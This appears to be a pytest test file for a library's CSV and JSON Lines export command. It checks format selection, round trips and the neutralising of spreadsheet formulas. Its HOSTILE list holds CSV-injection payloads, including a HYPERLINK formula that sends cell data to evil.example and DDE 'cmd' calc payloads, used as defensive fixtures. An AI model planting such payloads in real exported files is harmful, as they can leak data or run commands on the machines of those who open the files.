"""``export``: JSON Lines exact, CSV safe to open in a spreadsheet (formula-looking
text neutralised unless ``--raw``), the format named, an empty export explained once."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import tempfile
from collections.abc import Iterable
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from trio_failurelog import FailureReader, RetrievalFailureRecord
from trio_failurelog._cli import main
from trio_failurelog._export import EXPORT_FIELDS, FORMULA_STARTS, neutralise_cell, record_to_dict
from trio_failurelog._table import COLUMNS, TABLE
from trio_failurelog._timetext import format_created_at

from ._failuredb import make_db, row, stored_rows
from ._helpers import run_cli as run
from .test_summary import ROWS, T0, T1

TEXT_FIELDS = ("failure_type", "retrieval_strategy", "query_text", "error_context", "edge_types")


@pytest.fixture
def db(tmp_path: Path) -> Path:
    return make_db(tmp_path / "cli.db", ROWS)


def test_export_jsonl_and_csv_to_files(
    capsys: pytest.CaptureFixture[str], db: Path, tmp_path: Path
) -> None:
    jsonl = tmp_path / "out.jsonl"
    code, out, err = run(capsys, "export", str(db), "-o", str(jsonl))
    assert code == 0
    assert out == ""
    assert err.endswith(f"exported {len(ROWS)} rows to {jsonl} as JSON Lines\n")
    exported = [json.loads(line) for line in jsonl.read_text(encoding="utf-8").splitlines()]
    assert [r["created_at"] for r in exported] == sorted(r["created_at"] for r in exported)
    code, out, _ = run(capsys, "export", str(db), "--format", "csv", "--since", T0, "--until", T1)
    assert code == 0
    assert len(list(csv.DictReader(io.StringIO(out)))) == 12


# ------------------------------------------------------------------ the format


@pytest.mark.parametrize(
    ("name", "options", "expected"),
    [
        ("x.csv", [], "csv"),
        ("X.CSV", [], "csv"),
        ("x.jsonl", [], "jsonl"),
        ("x.txt", [], "jsonl"),
        ("x.csv", ["--format", "jsonl"], "jsonl"),  # asked for: as asked
        ("x.jsonl", ["--format", "csv"], "csv"),
    ],
)
def test_the_format_follows_the_file_name_unless_given(
    capsys: pytest.CaptureFixture[str],
    db: Path,
    tmp_path: Path,
    name: str,
    options: list[str],
    expected: str,
) -> None:
    target = tmp_path / name
    code, _, err = run(capsys, "export", str(db), *options, "-o", str(target))
    assert code == 0, err
    text = target.read_text(encoding="utf-8")
    if expected == "csv":
        assert text.startswith("id,conversation_id,")
        assert err.endswith(f"rows to {target} as CSV\n")
    else:
        assert json.loads(text.splitlines()[0])["id"] >= 1
        assert err.endswith(f"rows to {target} as JSON Lines\n")


def test_the_help_shows_the_default_format(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        main(["export", "--help"])
    assert "default: csv when -o FILE ends in .csv, else jsonl" in " ".join(
        capsys.readouterr().out.split()
    )


@pytest.mark.parametrize("to_file", [True, False])
def test_an_empty_export_says_so_once(
    capsys: pytest.CaptureFixture[str], db: Path, tmp_path: Path, to_file: bool
) -> None:
    target = tmp_path / "none.csv"
    output = ["-o", str(target)] if to_file else []
    code, out, err = run(capsys, "export", str(db), "--strategy", "nothing", *output)
    assert code == 0
    assert err.count("exported 0 rows") == 1, err
    assert err.splitlines()[-1].endswith(
        f"none of the {len(ROWS)} failures in the database matches"
    )
    assert (target.read_text() if to_file else out).splitlines() == [
        "id,conversation_id,turn_index,failure_type,retrieval_strategy,query_text,query_len,"
        "top_score,confidence_threshold,result_count,latency_ms,edge_types,error_context,"
        "created_at"
    ] or not to_file


def test_raw_is_for_csv_only(capsys: pytest.CaptureFixture[str], db: Path) -> None:
    code, out, err = run(capsys, "export", str(db), "--raw")
    assert (code, out) == (2, "")
    assert err == (
        "trio-failurelog: error: export: --raw applies to CSV only (--format csv) (see --help)\n"
    )


# ------------------------------------------------------------------ CSV injection

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_looking_text_is_neutralised_in_every_text_column(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, text: str
) -> None:
    db = make_db(
        tmp_path / "h.db",
        [
            row(
                "error",
                text,
                text,
                "2024-01-01 00:00:00",
                edge_types=[text],
                error_context=text,
                top_score=-0.5,
                threshold=-1.25,
                conversation_id=-3,
            )
        ],
    )
    code, out, err = run(capsys, "export", str(db), "--format", "csv")
    assert code == 0, err
    (cells,) = csv.DictReader(io.StringIO(out, newline=""))
    for field in ("retrieval_strategy", "query_text", "error_context"):
        assert cells[field] == "'" + text, field
    assert json.loads(cells["edge_types"]) == [text]  # JSON array text: begins with "["
    # Numbers are numbers: a negative one is written as it is.
    assert (cells["top_score"], cells["confidence_threshold"], cells["conversation_id"]) == (
        "-0.5",
        "-1.25",
        "-3",
    )
    code, raw, _ = run(capsys, "export", str(db), "--format", "csv", "--raw")
    assert code == 0
    (cells,) = csv.DictReader(io.StringIO(raw, newline=""))
    assert cells["query_text"] == text
    # JSON Lines is unchanged: nothing evaluates it.
    code, lines, _ = run(capsys, "export", str(db))
    assert json.loads(lines)["query_text"] == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1", "'=1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@a", "'@a"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("'=1", "'=1"),
        ("", ""),
        ("plain", "plain"),
    ],
)
def test_neutralise_cell(text: str, shown: str) -> None:
    assert neutralise_cell(text) == shown


# ------------------------------------------------------------------ round trips

texts = st.text(st.characters(exclude_categories=["Cs"]), max_size=30)
formulaic = st.builds(lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS), texts)
scores = st.none() | st.floats(-1e6, 1e6, allow_nan=False)
rows = st.lists(
    st.builds(
        lambda kind, strategy, query, conv, score, thr, edges, context, stamp: row(
            kind,
            strategy,
            query,
            f"2024-02-{stamp // 86400 + 1:02d} {stamp // 3600 % 24:02d}:"
            f"{stamp // 60 % 60:02d}:{stamp % 60:02d}.{stamp % 1000:03d}",
            conversation_id=conv,
            top_score=score,
            threshold=thr,
            edge_types=edges,
            error_context=context,
            latency_ms=stamp % 5000,
        ),
        st.sampled_from(["no_hit", "low_confidence", "timeout", "error"]),
        texts | formulaic,
        texts | formulaic,
        st.none() | st.integers(-(2**63), 2**63 - 1),
        scores,
        scores,
        st.none() | st.lists(texts | formulaic, max_size=3),
        st.none() | texts | formulaic,
        st.integers(0, 20 * 86400),
    ),
    max_size=12,
)


def _from_csv(field: str, value: str) -> Any:
    if value == "":
        return None
    if field in ("id", "conversation_id", "turn_index", "query_len", "result_count", "latency_ms"):
        return int(value)
    if field in ("top_score", "confidence_threshold"):
        return float(value)
    return value


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(rows)
def test_export_round_trips_every_row(generated: list[tuple[Any, ...]]) -> None:
    """JSON Lines and raw CSV give back every value; default CSV gives back every value
    with a ' in front of exactly the text cells that begin like a formula."""
    with tempfile.TemporaryDirectory() as tmp:
        path = make_db(Path(tmp) / "rt.db", generated)
        stored = stored_rows(path)
        for fmt, options in (("jsonl", []), ("csv", ["--raw"]), ("csv", [])):
            target = Path(tmp) / f"out.{fmt}"
            argv = ["export", str(path), "--format", fmt, *options, "-o", str(target)]
            assert main(argv) == 0
            with target.open(encoding="utf-8", newline="") as stream:
                if fmt == "jsonl":
                    back = [json.loads(line) for line in stream.read().split("\n") if line]
                    for item in back:
                        if item["edge_types"] is not None:
                            item["edge_types"] = json.dumps(item["edge_types"])
                    expected = stored
                else:
                    back = [
                        {k: _from_csv(k, v) for k, v in item.items()}
                        for item in csv.DictReader(stream)
                    ]
                    # CSV cannot tell NULL from an empty text; everything else is exact.
                    expected = [
                        {k: (None if v == "" else v) for k, v in item.items()} for item in stored
                    ]
                    if not options:
                        for item in back:
                            for field in TEXT_FIELDS:
                                value = item[field]
                                assert value is None or not value.startswith(FORMULA_STARTS)
                        expected = [
                            {
                                k: neutralise_cell(v) if k in TEXT_FIELDS[:-1] and v else v
                                for k, v in item.items()
                            }
                            for item in expected
                        ]
                    for item in back:
                        # The JSON array text begins with "[": never neutralised.
                        if item["edge_types"] is not None:
                            item["edge_types"] = json.dumps(json.loads(item["edge_types"]))
            assert sorted(back, key=lambda r: r["id"]) == expected, (fmt, options)
            assert [r["id"] for r in back] == [
                r["id"] for r in sorted(stored, key=lambda r: (r["created_at"], r["id"]))
            ]


# ------------------------------------------------------------------ the fast path

# The export writes the rows as the reader reads them, without building a
# record per row. Its reference is the record-by-record export it replaced:
# every record of ``query(oldest_first=True)`` through ``record_to_dict``.


def _reference_jsonl(records: Iterable[RetrievalFailureRecord]) -> str:
    return "".join(json.dumps(record_to_dict(r), ensure_ascii=False) + "\n" for r in records)


def _reference_csv(records: Iterable[RetrievalFailureRecord], *, neutralise: bool) -> str:
    stream = io.StringIO(newline="")
    writer = csv.writer(stream)
    writer.writerow(EXPORT_FIELDS)
    for record in records:
        data = record_to_dict(record)
        if data["edge_types"] is not None:
            data["edge_types"] = json.dumps(data["edge_types"], ensure_ascii=False)
        cells = ["" if data[name] is None else data[name] for name in EXPORT_FIELDS]
        if neutralise:
            cells = [neutralise_cell(c) if isinstance(c, str) else c for c in cells]
        writer.writerow(cells)
    return stream.getvalue()


# A table of another application's, without the library's constraints: any
# column may hold text, a number or NULL (SQLite's types are per value).
_LOOSE_DDL = f"CREATE TABLE {TABLE} (id INTEGER PRIMARY KEY, {', '.join(COLUMNS)})"
_awkward = texts | formulaic | st.sampled_from(["", " ", "NULL", "é\u3000ß", '"a,b"\n', "1e5"])
_numbers = (
    st.integers(-(2**63), 2**63 - 1)
    | st.floats(allow_nan=False)
    | st.floats(-1, 1, allow_nan=False, width=32)
)
_stamps = st.builds(
    lambda second, fraction: (
        format_created_at(datetime(2024, 1, 1) + timedelta(seconds=second)) + fraction
    ),
    st.integers(0, 30 * 86400),
    st.sampled_from(["", ".5", ".123", ".123456"]),
)
_edge_texts = st.sampled_from(
    ['["mentions"]', '["a", "b"]', "[]", '[1, null, {"k": 2}, "=x"]', '"=one"', "{}", "not json"]
) | st.lists(texts | formulaic, max_size=3).map(json.dumps)
_loose_rows = st.lists(
    st.fixed_dictionaries(
        {
            "conversation_id": st.none() | _numbers,
            "turn_index": _numbers | _awkward,
            "failure_type": st.sampled_from(["no_hit", "low_confidence", "timeout", "error"])
            | _awkward
            | _numbers
            | st.none(),
            "retrieval_strategy": _awkward,
            "query_text": _awkward | _numbers,
            "query_len": _numbers,
            "top_score": st.none() | _numbers | _awkward,
            "confidence_threshold": st.none() | _numbers,
            "result_count": _numbers,
            "latency_ms": _numbers | _awkward,
            "edge_types": st.none() | _edge_texts,
            "error_context": st.none() | _awkward,
            "created_at": _stamps | _awkward,
        }
    ),
    max_size=12,
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_loose_rows)
def test_export_is_the_record_by_record_export_byte_for_byte(
    generated: list[dict[str, Any]],
) -> None:
    """Both formats, CSV neutralised and raw: the same bytes as the export that
    built a record per row, for any values in any column."""
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "loose.db"
        conn = sqlite3.connect(path, isolation_level=None)
        try:
            conn.execute(_LOOSE_DDL)
            conn.executemany(
                f"INSERT INTO {TABLE} ({', '.join(COLUMNS)}) VALUES "
                f"({', '.join('?' for _ in COLUMNS)})",
                [tuple(item[name] for name in COLUMNS) for item in generated],
            )
        finally:
            conn.close()
        with FailureReader(path) as reader:
            records = list(reader.query(oldest_first=True))
        assert len(records) == len(generated)
        for fmt, options, expected in (
            ("jsonl", [], _reference_jsonl(records)),
            ("csv", [], _reference_csv(records, neutralise=True)),
            ("csv", ["--raw"], _reference_csv(records, neutralise=False)),
        ):
            target = Path(tmp) / f"out.{fmt}"
            assert main(["export", str(path), "--format", fmt, *options, "-o", str(target)]) == 0
            assert target.read_bytes() == expected.encode("utf-8"), (fmt, options)


def test_export_pages_through_every_row_once(tmp_path: Path) -> None:
    """More rows than one page of the export, many sharing a created_at: each
    once, in (created_at, id) order, as the record-by-record export wrote them."""
    stamps = ["2024-01-01 00:00:00", "2024-01-01 00:00:00.5", "2024-01-01 00:00:01"]
    path = make_db(
        tmp_path / "many.db",
        [row("no_hit", "s", f"q{i}", stamps[i % 3], latency_ms=i) for i in range(4500)],
    )
    with FailureReader(path) as reader:
        expected = _reference_csv(reader.query(oldest_first=True), neutralise=True)
    target = tmp_path / "out.csv"
    assert main(["export", str(path), "-o", str(target)]) == 0
    assert target.read_bytes() == expected.encode("utf-8")
    assert len(expected.splitlines()) == 4501
